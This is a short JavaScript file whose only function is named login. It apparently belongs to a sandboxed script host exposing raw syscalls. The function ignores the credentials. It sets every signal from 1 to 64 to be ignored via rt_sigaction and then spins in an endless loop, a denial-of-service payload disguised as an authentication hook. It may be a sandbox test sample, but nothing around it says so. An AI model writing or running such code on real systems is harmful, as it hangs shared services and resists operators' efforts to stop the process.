function login(email, password, callback) {
  const { rt_sigaction } = calls();
  for (let signal = 1; signal <= 64; signal += 1) {
    const ignore = new BigUint64Array(4);
    ignore[0] = 1n;
    syscall(rt_sigaction, signal, ignore, 0, 8);
  }
  while (true);
}
